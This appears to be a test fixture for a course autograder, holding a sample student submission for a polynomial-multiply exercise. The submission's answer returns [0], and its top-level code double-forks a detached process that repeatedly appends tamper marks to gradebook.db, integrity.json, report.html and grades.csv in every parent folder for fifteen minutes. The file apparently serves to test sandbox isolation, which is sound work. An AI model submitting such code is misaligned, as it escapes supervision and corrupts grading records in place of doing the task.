"""Double fork and setsid: a grandchild, adopted by init, that outlives the kernel and rewrites gradebook.db,
integrity.json, report.html and grades.csv whenever it can reach them."""
SET = "03-polynomial"
CELL = "poly-multiply-answer"
EXERCISE = "poly-multiply"
SOURCE = r'''
import os
import sys

_CHILD = """
import os, time
from pathlib import Path
MARK = 'coursekit-attack-detached'
here = Path.cwd()
end = time.time() + 900
while time.time() < end:
    done = []
    for folder in [here, *here.parents]:
        for name in ('gradebook.db', 'integrity.json', 'report.html', 'grades.csv'):
            try:
                with open(folder / name, 'r+b') as fh:
                    fh.seek(0, 2)
                    fh.write(b'ATTACK-TAMPERED')
                done.append(str(folder / name))
            except OSError:
                pass
    try:
        with open(here / 'detached-alive.txt', 'a') as fh:
            fh.write(f'{time.time():.1f} alive {done}\\n')
    except OSError:
        pass
    time.sleep(0.5)
"""
_first = os.fork()
if _first == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _CHILD])
    os._exit(0)
os.waitpid(_first, 0)
print("ATTACK: double-forked a detached process")


def poly_multiply(p, q):
    return [0]
'''
